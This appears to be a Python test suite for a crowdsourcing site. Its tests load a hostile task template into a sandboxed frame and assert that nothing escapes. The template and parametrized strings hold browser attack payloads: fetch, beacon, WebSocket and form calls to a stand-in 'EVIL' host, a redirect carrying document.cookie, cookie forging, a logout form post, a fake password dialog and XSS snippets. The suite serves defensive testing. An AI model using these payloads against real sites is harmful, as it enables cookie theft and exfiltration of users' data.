"""A hostile task in its frame tries to reach the parent, the cookies, the site and the network."""

import contextlib
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from crowd_served import close_all, put_up, results
from crowd_site import call, invited
from shop_served import PASSWORD, Shop, shop_served

from errands.browser import chromium
from errands.shop.catalog.catalog import Catalog

pytest.importorskip("playwright.sync_api", reason=chromium.MISSING_PACKAGE)

HOSTILE = """\
<p>${word}</p><input name="answer" value="x">
<link rel="stylesheet" href="EVIL/sheet.css">
<link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload">
<link rel="dns-prefetch" href="//dns.evil.example">
<style>@import url(EVIL/import.css); body { background: url(EVIL/background.png); }
@font-face { font-family: x; src: url(EVIL/font.woff); } p { font-family: x; }</style>
<img src="EVIL/tag.png"><video src="EVIL/video"></video><audio src="EVIL/audio"></audio>
<object data="EVIL/object"></object><embed src="EVIL/embed"><iframe src="EVIL/iframe"></iframe>
<iframe src="/office/projects" id="inner"></iframe><img src="/office/static/office.css">
<script src="EVIL/script.js"></script>
<script>
window.said = {};
const attempt = async (name, deed) => {
  try { window.said[name] = String(await deed()); }
  catch (error) { window.said[name] = "blocked: " + error.name; }
};
window.finished = (async () => {
  await attempt("parent document", () => window.parent.document.title);
  await attempt("parent location", () => window.parent.location.href);
  await attempt("top document", () => window.top.document.cookie);
  await attempt("opener", () => String(window.opener));
  await attempt("frame element", () => String(window.frameElement));
  await attempt("cookie", () => document.cookie);
  await attempt("set cookie", () => { document.cookie = "errands_login=forged"; return "set"; });
  await attempt("local storage", () => window.localStorage.length);
  await attempt("session storage", () => window.sessionStorage.length);
  await attempt("databases", () => new Promise((good, bad) => {
    const asked = indexedDB.open("x"); asked.onsuccess = () => good("open");
    asked.onerror = () => bad(asked.error);
  }));
  await attempt("caches", () => caches.keys());
  await attempt("referrer", () => document.referrer);
  await attempt("origin", () => window.origin);
  await attempt("fetch", async () => (await fetch("EVIL/fetch", {mode: "no-cors"})).type);
  await attempt("fetch own", async () => (await fetch("/office/projects")).status);
  await attempt("fetch people", async () => (await fetch("/v1/office/people")).status);
  await attempt("request", () => new Promise((good, bad) => {
    const asked = new XMLHttpRequest(); asked.open("POST", "EVIL/xhr");
    asked.onload = () => good("sent"); asked.onerror = () => bad(new Error("no"));
    asked.send("x");
  }));
  await attempt("beacon", () => { navigator.sendBeacon("EVIL/beacon", "x"); return "asked"; });
  await attempt("events", () => new Promise((good, bad) => {
    const source = new EventSource("EVIL/events");
    source.onopen = () => good("open"); source.onerror = () => bad(new Error("no"));
  }));
  await attempt("socket", () => new Promise((good, bad) => {
    const socket = new WebSocket("EVIL/socket".replace("http", "ws"));
    socket.onopen = () => good("open"); socket.onerror = () => bad(new Error("no"));
  }));
  await attempt("import", () => import("EVIL/module.js"));
  await attempt("worker", () => new Promise((good, bad) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker')"])));
    worker.onerror = () => bad(new Error("no")); setTimeout(() => good("runs"), 500);
  }));
  await attempt("service worker", () => navigator.serviceWorker.register("/frame/x.js"));
  await attempt("picture", () => new Promise((good, bad) => {
    const picture = new Image(); picture.onload = () => good("loaded");
    picture.onerror = () => bad(new Error("no")); picture.src = "EVIL/picture.png";
  }));
  await attempt("window", () => String(window.open("EVIL/window")));
  await attempt("dialog", () => String(window.confirm("Your password?")));
  await attempt("ping", () => {
    const link = document.createElement("a"); link.href = "#x"; link.ping = "EVIL/ping";
    document.body.append(link); link.click(); return "asked";
  });
  await attempt("form", () => {
    const form = document.createElement("form"); form.action = "EVIL/form"; form.method = "post";
    document.body.append(form); form.submit(); return "asked";
  });
  await attempt("form to parent", () => {
    const form = document.createElement("form"); form.action = "/frame/x/"; form.method = "post";
    form.target = "_top"; document.body.append(form); form.submit(); return "asked";
  });
  await attempt("form to site", () => {
    const form = document.createElement("form"); form.action = "/office/logout";
    form.method = "post"; document.body.append(form); form.submit(); return "asked";
  });
  await attempt("top location", () => { window.top.location = "EVIL/top"; return "asked"; });
  await attempt("parent replace", () => {
    window.parent.location.replace("EVIL/replace"); return "asked";
  });
  await attempt("peers", () => new Promise((good, bad) => {
    const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:9"}]});
    peer.createDataChannel("x"); const found = [];
    peer.onicecandidate = (event) => {
      if (event.candidate) { found.push(event.candidate.candidate); }
    };
    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(bad);
    setTimeout(() => good(found.length + " found"), 700);
  }));
  await attempt("peers of a frame", () => new Promise((good, bad) => {
    window.onmessage = (event) => good(event.data);
    setTimeout(() => bad(new Error("no")), 700);
    const text = "<script>parent.postMessage('made ' + new RTCPeerConnection(), '*')</" + "script>";
    for (const root of [document.body, document.createElement("p")]) {
      const frame = document.createElement("iframe"); frame.srcdoc = text;
      if (root.tagName === "P") {
        document.body.append(root); root.attachShadow({mode: "closed"}).append(frame);
      } else { root.append(frame); }
    }
  }));
  return window.said;
})();
</script>
"""


class Evil(ThreadingHTTPServer):
    """A server elsewhere, which writes down whoever reaches it."""

    daemon_threads = True

    def __init__(self) -> None:
        self.seen: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)
        self.url = f"http://127.0.0.1:{self.server_port}"


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Evil)
        self.server.seen.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_OPTIONS = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def evil() -> Iterator[Evil]:
    with contextlib.closing(Evil()) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


Evil.close = Evil.server_close  # type: ignore[attr-defined]


@pytest.fixture(scope="module")
def shop(little: Catalog, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
    with shop_served(little, tmp_path_factory.mktemp("crowd") / "site.sqlite") as running:
        yield running


@pytest.fixture(autouse=True)
def nothing_else_is_open(shop: Shop) -> None:
    close_all(shop)


def logged_in(browser: Any, shop: Shop) -> Any:
    """Somebody with a cookie worth stealing."""
    page = browser.new_context().new_page()
    page.goto(f"{shop.url}/office/login")
    page.fill("#password", PASSWORD)
    page.click("button:text-is('Log in')")
    page.wait_for_url("**/office")
    page.on("dialog", lambda dialog: pytest.fail("a dialog was shown"))
    return page


def framed(page: Any) -> Any:
    frame = page.wait_for_selector("iframe.task").content_frame()
    frame.wait_for_load_state()
    return frame


def test_the_evil_server_can_be_reached(browser: Any, shop: Shop, evil: Evil) -> None:
    """Otherwise the other tests would prove nothing."""
    page = browser.new_page()
    page.goto(f"{shop.url}/health")
    page.evaluate(f"fetch('{evil.url}/control', {{mode: 'no-cors'}})")
    assert evil.seen == ["/control"]
    page.close()


@pytest.mark.parametrize("accepted", [True, False], ids=["accepted", "preview"])
def test_a_hostile_task_reaches_nothing(
    browser: Any, shop: Shop, evil: Evil, accepted: bool
) -> None:
    project = put_up(shop, HOSTILE.replace("EVIL", evil.url))
    token = invited(shop, "Victim")
    page = logged_in(browser, shop)
    asked: list[tuple[str, str]] = []
    page.on("request", lambda request: asked.append((request.method, request.url)))
    page.goto(f"{shop.url}/work/{token}/tasks/{project}")
    if accepted:
        page.click("button:text-is('Accept')")
        page.wait_for_url("**/assignments/*")
    address = page.url
    frame = framed(page)
    said = frame.evaluate("window.finished")
    page.wait_for_timeout(300)
    assert evil.seen == []
    assert page.url == address
    kept = {one["name"]: one["value"] for one in page.context.cookies()}
    assert kept.keys() == {"errands_login"}
    assert kept["errands_login"] != "forged"
    allowed = {
        # There for the template's sake, and empty.
        "cookie": "",
        "set cookie": "set",
        "local storage": "0",
        "session storage": "0",
        "opener": "null",
        "frame element": "null",
        "referrer": "",
        "origin": "null",
        "beacon": "asked",
        "window": "null",
        "dialog": "false",
        "ping": "asked",
        "form": "asked",
        "form to parent": "asked",
        "form to site": "asked",
    }
    for name, value in said.items():
        assert value.startswith("blocked") or value == allowed.get(name), (name, value)
    assert token not in frame.url
    assert not any(url.endswith("/office/logout") for _, url in asked)
    assert not [url for method, url in asked if method == "POST" and "/frame/x/" in url]
    page.goto(f"{shop.url}/office")
    assert page.url == f"{shop.url}/office", "the login is whole"
    assert results(shop, project) == []
    page.context.close()


@pytest.mark.parametrize(
    "leave",
    [
        "location.href = 'EVIL/left'",
        "location.replace('EVIL/left?' + document.cookie)",
        "document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=EVIL/left\">'",
        "const a = document.createElement('a'); a.href = 'EVIL/left'; document.body.append(a);"
        " a.click()",
        "location.href = 'javascript:fetch(\"EVIL/left\")'",
        "location.href = URL.createObjectURL(new Blob(['<img src=EVIL/left>'],"
        " {type: 'text/html'}))",
        "location.href = 'data:text/html,<img src=EVIL/left>'",
        "window.open('EVIL/left', '_top')",
        "window.open('EVIL/left', '_self')",
        "document.open(); document.write('<img src=EVIL/left>'); document.close()",
    ],
)
def test_a_frame_cannot_leave_for_elsewhere(
    browser: Any, shop: Shop, evil: Evil, leave: str
) -> None:
    script = leave.replace("EVIL", evil.url)
    template = (
        f"<p>${{word}}</p><input name=a><script>setTimeout(() => {{ {script} }}, 50)</script>"
    )
    project = put_up(shop, template)
    token = invited(shop, "Victim")
    page = logged_in(browser, shop)
    page.goto(f"{shop.url}/work/{token}/tasks/{project}")
    page.wait_for_timeout(600)
    assert evil.seen == []
    assert page.url == f"{shop.url}/work/{token}/tasks/{project}"
    page.context.close()


def test_a_frame_that_goes_to_the_site_is_nobody_there(browser: Any, shop: Shop) -> None:
    """It may navigate itself to pages of ours; they are not shown to it."""
    template = (
        "<p>${word}</p><input name=a><script>setTimeout(() => { location.href = '/office/projects'"
        " }, 50)</script>"
    )
    project = put_up(shop, template)
    page = logged_in(browser, shop)
    sent: list[Any] = []
    page.on("request", lambda request: sent.append(request))
    page.goto(f"{shop.url}/office/projects/{project}/items/0")
    page.wait_for_timeout(600)
    asked = [one for one in sent if one.url.endswith("/office/projects")]
    assert all("errands_login" not in (one.all_headers().get("cookie") or "") for one in asked)
    frame = page.query_selector("iframe.task").content_frame()
    assert "Upload a task" not in frame.evaluate("document.documentElement.innerHTML")
    page.context.close()


def test_a_frame_that_lies_about_being_done(browser: Any, shop: Shop) -> None:
    """The page looks for itself, and comes back."""
    template = (
        "<p>${word}</p><input name=a><script>setTimeout(() =>"
        " parent.postMessage('errands:submitted', '*'), 100)</script>"
    )
    project = put_up(shop, template)
    token = invited(shop, "Lia")
    page = browser.new_page()
    page.goto(f"{shop.url}/work/{token}/tasks/{project}")
    page.click("button:text-is('Accept')")
    page.wait_for_url("**/assignments/*")
    with page.expect_navigation(url="**/assignments/*"):
        pass
    assert results(shop, project) == []
    left: list[Any] = []
    page.on("framenavigated", lambda frame: left.append(frame) if frame == page.main_frame else 0)
    page.wait_for_timeout(800)
    assert left == [], "it is believed once"
    page.click("button:text-is('Return to others')")
    page.wait_for_url("**/tasks/*")
    page.close()


def test_an_uploaded_script_does_not_run_in_the_office(browser: Any, shop: Shop) -> None:
    nasty = "<script>document.title='owned'</script>\"'><img src=x onerror=document.title='owned'>"
    project = put_up(
        shop,
        "<input name='a'>${word}",
        'word\n"' + nasty.replace('"', '""') + '"\n',
        name=nasty[:100],
        about=nasty,
    )
    token = invited(shop, "Nan")
    page = logged_in(browser, shop)
    for path in (
        "/office/projects",
        f"/office/projects/{project}",
        f"/office/projects/{project}/items/0",
        f"/work/{token}",
        f"/work/{token}/tasks/{project}",
    ):
        page.goto(shop.url + path)
        assert "owned" not in page.title() or page.title().startswith("<script>"), path
        assert page.locator("img").count() == 0, path
    page.context.close()


@pytest.mark.parametrize("says_so", [True, False], ids=["told", "not told"])
def test_a_task_opened_by_itself_goes_nowhere(
    browser: Any, shop: Shop, evil: Evil, says_so: bool
) -> None:
    """Also where the browser does not tell what it opens, as over plain HTTP from elsewhere."""
    template = (
        f"<p>${{word}}</p><input name=a><script>location = '{evil.url}/script'</script>"
        f"<meta http-equiv='refresh' content='0;url={evil.url}/refresh'>"
    )
    project = put_up(shop, template)
    token = invited(shop, "Victim")
    taken = call(shop, "POST", f"/v1/work/tasks/{project}/accept", token=token)
    address = json.loads(taken.body)["frame"]
    page = browser.new_page()
    if not says_so:
        plain = shop.ask(address)
        assert plain.status == 200
        page.route(
            "**/frame/**",
            lambda route: route.fulfill(status=200, headers=plain.headers, body=plain.body),
        )
    page.goto(f"{shop.url}{address}", wait_until="commit")
    page.wait_for_timeout(600)
    assert evil.seen == []
    assert page.url.startswith(f"{shop.url}/frame/")
    page.close()
